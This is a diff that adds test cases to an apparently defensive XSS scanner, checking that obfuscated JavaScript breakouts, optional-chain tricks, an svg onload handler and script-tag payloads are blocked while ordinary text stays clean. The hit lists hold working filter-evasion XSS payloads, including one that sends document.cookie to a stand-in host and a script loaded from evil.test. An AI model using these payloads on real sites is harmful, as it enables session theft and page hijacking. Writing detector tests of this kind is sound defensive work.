@@ -1022,3 +1022,86 @@ describe('xss: U+2028 and U+2029 end a line comment (session 21)', () => {
     for (const c of contexts) expectSameWhenSplit(d, [...hits, ...hits.map(encodeURIComponent), ...clean], c);
   });
 });
+
+// session 22: the receiver of the computed global member is a class, not one word: the global parenthesized ((window),
+// ((self)), (0,top): a sequence's last value), reached through document.defaultView, or followed by the optional chain's
+// '?.' (window?.['loc'+'ation'].assign(name)); location's methods and print through '?.' too. Each was run in the page
+// var q = '<value>' (node's vm, V8 as in Chromium, window = self = top = globalThis the global object, name =
+// 'javascript:x'): each navigated to name's URL (or called print). ';window?.['loc'+'ation']=name// is a SyntaxError in
+// every engine (an optional chain is no assignment target), so it runs nothing; it is flagged as the same attempt (no
+// ordinary text writes it). The hits fail before; the clean rows are optional chains and parenthesized globals in
+// ordinary code, a conditional's '?' after a quoted word, and a comparison.
+describe('xss: the computed global member through a parenthesized global or ?. (session 22)', () => {
+  const hits = [
+    "';(window)['loc'+'ation']=name//", "';((self))['loc'+'ation']=name//", "';(0,top)['loc'+'ation']=name//",
+    "';(globalThis)['loc'+'ation'].href=name//", "';window?.['loc'+'ation'].assign(name)//",
+    "';self?.['loc'+'ation']?.assign?.(name)//", "';location?.assign(name)//", "';window?.location?.replace(name)//",
+    "';location?.['assign'](name)//", "'-print?.()-'", "';document.defaultView['loc'+'ation']=name//",
+    "';window?.['loc'+'ation']=name//", // (a SyntaxError: flagged as the attempt it is)
+  ];
+  const clean = [
+    "const v = obj?.['key'];", "window?.dataLayer?.push({event: 'signup'})", "It's 'home'; location? Unknown", "(window).foo = 1",
+    "const t = 'a'; (window)[t] = 1", "Did he say 'yes'? window?.open later", "';location?.href==name//", "';(window)['x']=1//",
+    "Is it 'top'? parent? or self?",
+  ];
+  jsBreakoutCases(hits, clean);
+});
+
+// session 22: a global indexed by a computed name and called, through the optional chain: window?.['al'+'ert'](1),
+// self?.['al'+'ert']?.(1), top['con'+'firm']?.(1), (window)?.['al'+'ert'](1). Each called alert (or confirm) in the page
+// var q = '<value>' (node's vm, as above: `'-x-'` subtracts the call's result, so the call runs). '-alert?.(1)-' and
+// "><svg/onload=alert?.()> were already blocked (pinned here; the second runs alert when the value lands in an attribute
+// value: the quote and '>' close the tag, the <svg>'s load event runs the handler). The first four fail before.
+describe('xss: a computed global member called through ?. (session 22)', () => {
+  const contexts = ['query', 'form', 'json'] as const;
+  const hits = [
+    "'-window?.['al'+'ert'](1)-'", "'-self?.['al'+'ert']?.(1)-'", "'-top['con'+'firm']?.(1)-'", "'-(window)?.['al'+'ert'](1)-'",
+    "'-alert?.(1)-'", '"><svg/onload=alert?.()>',
+  ];
+  const asSent = (input: string, context: string) => (context === 'json' ? JSON.stringify({ q: input }) : encodeURIComponent(input));
+  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-sink', (input, context) => {
+    const r = d.scan(asSent(input, context), { context });
+    expect(ruleIds(r)).toContain('xss.js-sink');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = ["const v = obj?.['key'];", "cb = opts?.['on' + ev]?.(e);", "window?.['my'+'App']", "is it 'a'? b"];
+  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
+    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
+  });
+  it('gives the same findings split anywhere', () => {
+    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...clean].map((h) => asSent(h, c)), c);
+  });
+});
+
+// session 22: a bare <script> whose body starts with two names side by side on one line (the first no keyword, the second
+// not in or instanceof) opens a script with a SyntaxError in its first line: a classic script with an early error runs
+// none of its code, and the page's text after the value only extends that script. Checked in V8 (node's vm, as Chromium
+// parses): "tag in my template no longer loads", "tag embeds JavaScript", "in my essay" and "not allowed lol" each throw
+// SyntaxError before running anything. The clean rows (the stand-ins' ordinary sentences) fail on the earlier code; the
+// look-alikes stay blocked: a body that runs (a call, a declaration, an operator, a comment, a line break before the
+// second name), a body too short to hold the pair, a <script> with attributes, and a second tag after the released one.
+describe('xss: a bare <script> whose first line is a SyntaxError (session 22)', () => {
+  const contexts = ['query', 'form', 'json'] as const;
+  const asSent = (input: string, context: string) => (context === 'json' ? input : encodeURIComponent(input));
+  const clean = [
+    'After the update, the <script> tag in my template no longer loads', 'The <script> tag embeds JavaScript',
+    'I wrote <script> in my essay about HTML tags', 'I hate when sites say "<script> not allowed" lol', '<SCRIPT> x y',
+  ];
+  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
+    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
+  });
+  const hits = [
+    '<script>alert(1)</script>', '<script> alert(1)', '<script>', '<script> tag', 'what is <script> tag',
+    'How do I use <script> tags in HTML?', "<script> new Image().src='//x/'+document.cookie", '<script> var a = 1',
+    '<script> typeof alert', '<script> a in b', '<script>/*a b*/alert(1)', '<script> New Image', '<script> in',
+    '<script> x\ny z', '<script src=//evil.test/x.js> a b', '<script> a b</script><script>alert(1)</script>',
+  ];
+  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a script-tag', (input, context) => {
+    const r = d.scan(asSent(input, context), { context });
+    expect(ruleIds(r)).toContain('xss.script-tag');
+    expect(r.blocked).toBe(true);
+  });
+  it('gives the same findings split anywhere', () => {
+    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...clean].map((h) => asSent(h, c)), c);
+  });
+});
